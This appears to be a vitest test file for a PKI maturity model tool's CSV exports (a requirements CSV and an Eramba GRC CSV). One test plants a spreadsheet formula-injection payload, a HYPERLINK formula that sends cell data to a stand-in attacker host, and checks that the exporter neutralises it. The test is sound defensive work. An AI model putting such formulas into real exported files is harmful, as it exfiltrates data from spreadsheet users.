/**
 * The requirements CSV (one row per requirement, formula-safe) and the 7-column Eramba GRC CSV
 * of each model version, parsed back with csv-parse as an independent reader, from the library
 * and from the CLI.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { readAssessmentFile } from '../../src/assessment-io/read-assessment.js';
import { REQUIREMENTS_CSV_HEADER, requirementsCsv } from '../../src/exchange/csv/requirements-csv.js';
import { erambaCsv, stripLinks } from '../../src/exchange/csv/eramba-csv.js';
import { formulaSafe } from '../../src/exchange/csv/formula-safe.js';
import { indexModel } from '../../src/core/model/model-index.js';
import { bundledRegistry, EXAMPLES } from '../helpers/registry.js';
import { cli } from '../support/run-cli.js';

const registry = bundledRegistry();
type Row = Record<(typeof REQUIREMENTS_CSV_HEADER)[number], string>;

describe('requirements CSV', () => {
  it('has a header and one row per requirement with rating, scoping, notes and evidence', async () => {
    const { assessment, model } = await readAssessmentFile(
      join(EXAMPLES, 'sample-assessment-2.0.0.yaml'),
      registry,
    );
    const counts = new Map([['G.strategy-and-vision.sponsor-support', 2]]);
    const text = requirementsCsv(assessment, model, counts);
    const [header] = parse(text, { toLine: 1 });
    expect(header).toEqual([...REQUIREMENTS_CSV_HEADER]);
    const rows = parse<Row>(text, { columns: true });
    expect(rows).toHaveLength(76);
    expect(rows.map((r) => r.requirement)).toEqual(indexModel(model).requirements.map((r) => r.key));
    expect(rows[0]).toMatchObject({
      module: 'G',
      category: 'G.strategy-and-vision',
      requirement: 'G.strategy-and-vision.sponsor-support',
      reference: 'G.1.1',
      title: 'Executive sponsorship and funding',
      weight: '3',
      rating: '4',
      rating_name: 'Managed',
      applicability: 'applicable',
      evidence: 'Steering committee minutes SC-2025-11; PKI strategy v2.1',
      evidence_items: '2',
      flagged: 'false',
    });
    const disclosure = rows.find(
      (r) => r.requirement === 'G.policies-and-documentation.disclosure-statement',
    );
    expect(disclosure).toMatchObject({ rating: '', applicability: 'not-applicable' });
    expect(disclosure?.reason).toContain('no\nexternal relying parties'.replace('\n', ' '));
    expect(rows[1]?.evidence_items).toBe('0');
  });

  it('quotes cells that a spreadsheet would run as formulas', async () => {
    const { assessment, model } = await readAssessmentFile(
      join(EXAMPLES, 'sample-assessment-2.0.0.yaml'),
      registry,
    );
    const key = 'G.strategy-and-vision.sponsor-support';
    const hostile = structuredClone(assessment);
    const answer = hostile.requirements[key];
    if (!answer) throw new Error('sample changed');
    answer.notes = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
    answer.evidence = '@SUM(1+1)';
    answer.flagNote = 'not exported';
    const rows = parse<Row>(requirementsCsv(hostile, model), { columns: true });
    expect(rows[0]?.notes).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"click")`);
    expect(rows[0]?.evidence).toBe("'@SUM(1+1)");
    expect(rows[0]?.evidence_items).toBe('');
    expect(['+1', '-1', '\tx', '\rx', 'plain', 3].map(formulaSafe)).toEqual([
      "'+1",
      "'-1",
      "'\tx",
      "'\rx",
      'plain',
      3,
    ]);
  });

  it('is written by the CLI with a byte-order mark for Excel', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'pkimm-csv-')), 'r.csv');
    const result = await cli([
      'export',
      join(EXAMPLES, 'official-export-2.0.0-full.yaml'),
      '--format',
      'csv',
      '--out',
      out,
    ]);
    expect(result.code).toBe(0);
    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(bytes, { bom: true, columns: true })).toHaveLength(76);
  });
});

describe('Eramba CSV', () => {
  it.each([
    ['1.0.0', 72, 'G.1', 'G.1.1'],
    ['2.0.0', 76, 'G.strategy-and-vision', 'G.strategy-and-vision.sponsor-support'],
  ])(
    'of %s: no header, %i rows of exactly 7 columns, no markdown links',
    async (version, count, chapter, item) => {
      const model = await registry.get('pkimm', version);
      const rows = parse(erambaCsv(model));
      expect(rows).toHaveLength(count);
      for (const row of rows) expect(row).toHaveLength(7);
      const [first] = rows;
      expect(first?.[0]).toBe(chapter);
      expect(first?.[1]).toBe('Strategy and vision');
      expect(first?.[3]).toBe(item);
      expect(first?.[4]).toBe('Executive sponsorship and funding');
      expect(first?.[5]).toBe(model.modules[0]?.categories[0]?.requirements[0]?.guidance);
      expect(first?.[6]).toContain('References:');
      expect(first?.[6]).toContain('ISO/IEC 27001');
      for (const row of rows) expect(row.join('\n')).not.toMatch(/\]\(https?:/);
      const index = indexModel(model);
      expect(rows.map((r) => r[3])).toEqual(index.requirements.map((r) => r.key));
      expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(index.categories.map((c) => c.key)));
    },
  );

  it('strips markdown links to their text', () => {
    expect(
      stripLinks('See [RFC 5280](https://www.rfc-editor.org/rfc/rfc5280) and <https://example.org/x>.'),
    ).toBe('See RFC 5280 and https://example.org/x.');
  });

  it('is written by `pkimm model eramba`, and an unknown version is refused', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'pkimm-eramba-')), 'pkimm.csv');
    const result = await cli(['model', 'eramba', '1.0.0', '--out', out]);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('Eramba CSV of pkimm 1.0.0');
    expect(parse(readFileSync(out, 'utf8'))).toHaveLength(72);
    const stdout = await cli(['model', 'eramba', 'pkimm@2.0.0']);
    expect(parse(stdout.stdout)).toHaveLength(76);
    const missing = await cli(['model', 'eramba', '9.9.9']);
    expect(missing.code).toBe(2);
  });
});
